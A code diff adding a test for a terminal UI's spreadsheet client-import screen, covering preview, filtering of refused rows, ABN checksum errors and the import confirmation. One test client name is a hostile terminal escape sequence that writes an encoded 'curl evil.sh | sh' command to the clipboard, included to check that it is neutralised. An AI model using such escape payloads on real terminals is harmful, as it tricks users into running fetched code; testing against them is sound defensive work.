@@ -373,3 +373,72 @@ def memory_kib(field: str) -> int:
         if line.startswith(field + ":"):
             return int(line.split()[1])
     raise AssertionError(f"no {field} in /proc/self/status")
+
+
+def screen_text(app) -> str:
+    """Every line of the screen as drawn."""
+    return "\n".join(strip.text for strip in app.screen._compositor.render_strips())
+
+
+async def test_the_import_screen_previews_filters_and_imports_at_80x24(practice, short_tmp):
+    from textual.widgets import Input
+
+    from clientlink.tui.app import ClientlinkApp
+    from clientlink.tui.screens.confirm import ConfirmScreen
+    from clientlink.tui.screens.import_clients import ImportClientsScreen
+    from clientlink.tui.screens.manage_clients import ManageClientsScreen
+    from tests.test_tui_app import wait_until
+
+    hostile = "Clip \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 Pty \x1b[2J Ltd"
+    bad_abn = ABNS[8][:-1] + str((int(ABNS[8][-1]) + 1) % 10)
+    rows = [
+        ["Harbour Fund", ABNS[9], "Xero", "t-harbour", "", "0491 570 160"],
+        [hostile, ABNS[10], "Xero", "t-hostile", "", ""],
+        ["Typo Fund", bad_abn, "Xero", "t-typo", "", ""],
+        ["Quay Trust", "", "QuickBooks", "55501", "", ""],
+    ]
+    path = write_csv(short_tmp / "funds.csv", rows)
+    rpc = await practice.connect()
+    total_before = (await rpc.call(p.CLIENTS_LIST, limit=1)).total
+
+    app = ClientlinkApp(practice.socket_path, open_browser=False)
+    async with app.run_test(size=(80, 24)) as pilot:
+        manage = app.screen
+        assert isinstance(manage, ManageClientsScreen)
+        await wait_until(pilot, lambda: manage.clients, "the clients")
+        titles = [command.title for command in manage.palette_commands()]
+        assert "Clients: import from a spreadsheet" in titles
+        await pilot.press("i")
+        await wait_until(pilot, lambda: isinstance(app.screen, ImportClientsScreen), "the screen")
+        screen = app.screen
+        path_input = screen.query_one("#import-path", Input)
+        assert path_input.has_focus
+        path_input.value = str(path)
+        await pilot.press("enter")
+        await wait_until(pilot, lambda: screen.preview is not None, "the preview")
+        await pilot.pause()
+        text = screen_text(app)
+        assert "4 rows: 3 to add, 0 matching clients, 1 refused" in text, text
+        assert "Import 3 clients (skip 1 refused row)" in text, text
+        assert "Harbour Fund" in text and "REFUSED" in text
+        assert "\x1b" not in text and "Clip ␛]52;c;" in text, "the escape reached the screen"
+
+        await pilot.press("tab", "f")
+        await wait_until(pilot, lambda: screen.refused_only and len(screen.rows) == 1, "refused")
+        await pilot.pause()
+        text = screen_text(app)
+        assert "Typo Fund" in text and "Harbour Fund" not in text
+        assert "fails the ATO's checksum" in text, text
+
+        await pilot.press("ctrl+s")
+        await wait_until(pilot, lambda: isinstance(app.screen, ConfirmScreen), "the question")
+        question = screen_text(app)
+        assert "Import 3 clients (skip 1 refused row) from" in question, question
+        await pilot.press("y")
+        await wait_until(pilot, lambda: app.screen is manage, "back to Manage Clients")
+        toasts = [notification.message for notification in app._notifications]
+        assert any("3 clients added" in t and "1 refused row skipped" in t for t in toasts), toasts
+
+    assert (await rpc.call(p.CLIENTS_LIST, limit=1)).total == total_before + 3
+    stored = (await rpc.call(p.CLIENTS_LIST, filter={"text": "Clip"})).items
+    assert [c.name for c in stored] == [hostile], "the name is stored as it was written"
